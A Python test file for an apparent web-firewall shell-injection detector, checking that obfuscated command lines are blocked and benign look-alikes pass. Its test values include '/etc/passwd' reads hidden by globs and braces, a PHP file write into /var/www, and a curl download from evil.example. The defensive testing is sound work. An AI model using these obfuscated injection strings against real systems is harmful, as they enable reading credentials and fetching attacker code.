"""Shell injection (node/detect/shell.py) on grammar-generated command lines: globbing, quote
splitting, backslashes, $IFS, brace expansion, assigned variables, substitutions, cmd.exe and
PowerShell, behind every separator; and the look-alikes of the same characters."""

from __future__ import annotations

import pytest

from node.detect.engine import Engine
from node.detect.shell import detect_shell, glob_command
from tests.support.grammar import rce_attacks
from tests.support.grammar_checks import assert_all_blocked, assert_benign_pass


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


@pytest.mark.parametrize(("where", "encoding"), [("query", "plain"), ("query", "base64"), ("query", "url-double"),
                                                  ("form", "plain"), ("header", "plain")])
def test_command_lines_blocked(engine: Engine, where: str, encoding: str) -> None:
    assert_all_blocked(engine, rce_attacks(), where, encoding)


def test_command_lines_blocked_in_json(engine: Engine) -> None:
    # in free text a line break alone is not a separator: those forms are left out here
    assert_all_blocked(engine, rce_attacks(text_kinds=True), "json")


@pytest.mark.parametrize("where", ["query", "json", "form", "header"])
def test_look_alikes_pass(engine: Engine, where: str) -> None:
    assert_benign_pass(engine, "rce", where)


@pytest.mark.parametrize(("pattern", "command"), [("/b??/c?t", "cat"), ("/???/??oami", "whoami"),
                                                   ("/bin/ca[t]", "cat"), ("/usr/bin/w*et", "wget"),
                                                   ("/b??/x?z", None)])
def test_globs_resolve_to_commands(pattern: str, command: str | None) -> None:
    assert glob_command(pattern) == command


def test_a_flood_of_distinct_globs_is_judged_not_walked_one_by_one() -> None:
    """Each distinct globbed command path is resolved against the command paths (a regex made
    and run); a window with more than MAX_GLOB_WALKS of them is an injection, however many it
    holds, and fewer that name no command are nothing."""
    from node.detect import shell

    def globs(n: int, first: int = 0) -> str:
        return "".join(f";/bin/?a{i:04d}b " for i in range(first, first + n))

    assert detect_shell(globs(shell.MAX_GLOB_WALKS)) is None
    assert detect_shell(globs(shell.MAX_GLOB_WALKS + 1, 100)) == "glob-flood"
    assert detect_shell(globs(2_000, 200)) == "glob-flood"
    assert detect_shell("x" * 100 + globs(40, 3_000), "json") == "glob-flood"  # in free text too
    # ... and in free text's lines, where a line break starts the command line (the first line's
    # glob is resolved once more as the value's start)

    def lines(n: int, first: int) -> str:
        return "".join(f"\n/bin/?a{i:04d}b x" for i in range(first, first + n))

    assert detect_shell(lines(shell.MAX_GLOB_WALKS - 1, 4_000), "json") is None
    assert detect_shell(lines(shell.MAX_GLOB_WALKS + 1, 5_000), "json") == "glob-flood"
    assert detect_shell(lines(2_000, 6_000), "json") == "glob-flood"


def test_a_flood_spread_over_fields_ends_the_request() -> None:
    """Under a window's limit in each field, a request's glob walks still add up: past
    MAX_REQUEST_GLOB_WALKS the request is a glob flood and is judged no further (a partial
    verdict). Verdicts judged under the request's count are kept for no other request: each
    field alone is nothing."""
    from urllib.parse import quote

    from node.detect import shell
    from wallarm_wire.protocol import RequestMessage

    per_field = shell.MAX_GLOB_WALKS - 1

    def field(f: int) -> str:
        return "".join(f";/bin/?a{f * per_field + i:05d}b " for i in range(per_field))

    def form(*fields: int) -> RequestMessage:
        body = "&".join(f"f{f}={quote(field(f))}" for f in fields).encode()
        headers = [(b"Host", b"shop.test"), (b"Content-Type", b"application/x-www-form-urlencoded"),
                   (b"Content-Length", str(len(body)).encode())]
        return RequestMessage("POST", "/form", headers, body)

    engine = Engine()
    fields = range(shell.MAX_REQUEST_GLOB_WALKS // per_field + 40)
    flood = engine.analyze_request(form(*fields))
    assert [a.rule_id for a in flood.attacks if a.rule_id.endswith(".glob-flood")], flood.attacks
    assert flood.is_attack and flood.partial == ["budget"]
    assert shell.REQUEST_GLOB_WALKS.get() is None  # the request's count ends with it
    for f in fields[:8]:
        alone = engine.analyze_request(form(f))
        assert not alone.is_attack and not alone.partial, (f, alone)
    assert not engine.analyze_value(field(0), "form.f0", "form").is_attack


@pytest.mark.parametrize(("value", "rule"), [
    ("/b??/c?t /e??/p?ss??", "obfuscated-command"),
    ("c'a't /tmp/x", "obfuscated-command"),
    ('w"h"o"am"i', "command-alone"),
    ("{cat,/etc/passwd}", "brace-expansion"),
    ("a=c;b=at;$a$b /tmp/x", "separator-command"),
    ("x|c^m^d /c dir", "separator-command"),
    ("%COMSPEC% /c dir", "cmd-switch"),
])
def test_rules(value: str, rule: str) -> None:
    assert detect_shell(value) == rule


def test_line_breaks_in_free_text_need_an_unmistakable_command() -> None:
    assert detect_shell("note\nsleep 10", "json") == "separator-command"
    assert detect_shell("x\necho x>/var/www/x.php", "json") == "separator-command"
    assert detect_shell("query {\n  id\n  name\n}", "json") is None  # GraphQL fields
    assert detect_shell("I need\nsleep 10 hours", "json") is None


def test_documentation_shapes_in_free_text_pass() -> None:
    # a sentence's code span is documentation; an entity's ';' is no separator
    assert detect_shell('Shell tip: `for f in *.txt; do echo "$f"; done` prints every text file.', "json") is None
    assert detect_shell("<name>Krak&#xF3;w</name>", "body") is None
    # the same command line alone is an injection
    assert detect_shell('x; for f in *.txt; do echo "$f"; done', "json") == "separator-command"


def test_a_shell_snippet_written_as_text_passes_unless_it_probes() -> None:
    # a code sample in a JSON field opens with a command and an option; its own && chains its own
    assert detect_shell("tar -czf backup.tar.gz ./project && ls -lh backup.tar.gz", "json") is None
    # in a parameter it is injected; in text, a probe, a download or a disguised name is not documentation
    assert detect_shell("tar -czf backup.tar.gz ./project && ls -lh backup.tar.gz", "query") == "separator-command"
    assert detect_shell("ls -la && id", "json") == "separator-command"
    assert detect_shell("ls -la && curl http://evil.example/a.sh", "json") == "separator-command"
    assert detect_shell("ls -l; c'a't /tmp/x", "json") == "separator-command"
